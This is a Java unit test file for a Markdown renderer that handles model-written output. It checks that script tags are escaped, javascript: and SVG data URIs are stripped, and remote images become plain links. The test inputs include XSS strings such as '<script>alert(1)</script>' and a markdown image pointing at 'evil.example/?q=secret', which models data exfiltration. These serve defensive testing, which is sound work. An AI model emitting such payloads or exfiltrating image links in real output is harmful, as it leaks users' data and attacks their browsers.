package dev.spool.web;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class MarkdownTests {

	private final Markdown markdown = new Markdown(new MarkdownProperties(false));

	@Test
	void tablesAsModelsWriteThemBecomeTables() {
		String html = this.markdown.toHtml("| agent | tasks |\n|---|---:|\n| agent_a | 3 |\n| agent_b | 5 |\n");

		assertThat(html).contains("<table>", "<th>agent</th>", "<td>agent_a</td>", "<td align=\"right\">5</td>")
			.doesNotContain("|");
	}

	@Test
	void rawHtmlInsideATableStaysText() {
		String html = this.markdown.toHtml("| a |\n|---|\n| <script>alert(1)</script> |\n");

		assertThat(html).contains("&lt;script&gt;").doesNotContain("<script>");
	}

	@Test
	void anImageFromAnotherSiteBecomesALinkWithItsAltTextSoTheBrowserFetchesNothing() {
		String html = this.markdown.toHtml("Done. ![the *chart*](https://evil.example/?q=secret \"t\")\n\n"
				+ "![x](//evil.example/y.png) ![y](HTTP://evil.example/z.png)");

		assertThat(html).doesNotContain("<img")
			.contains("<a href=\"https://evil.example/?q=secret\"", ">the chart</a>", "href=\"//evil.example/y.png\"",
					">y</a>");
	}

	@Test
	void imagesOfThisSiteAndInlineOnesStayImages() {
		String html = this.markdown.toHtml("![logo](/favicon.svg) ![dot](data:image/png;base64,iVBORw0KGgo=)"
				+ " ![bad](javascript:alert(1)) ![svg](data:image/svg+xml;base64,PHN2Zz4=)");

		assertThat(html).contains("<img src=\"/favicon.svg\" alt=\"logo\" />",
				"<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\" />")
			.doesNotContain("javascript:", "data:image/svg");
	}

	@Test
	void remoteImagesMayBeAllowed() {
		Markdown allowing = new Markdown(new MarkdownProperties(true));

		assertThat(allowing.toHtml("![chart](https://example.org/chart.png) ![bad](javascript:alert(1))"))
			.contains("<img src=\"https://example.org/chart.png\" alt=\"chart\" />")
			.doesNotContain("javascript:");
	}

}
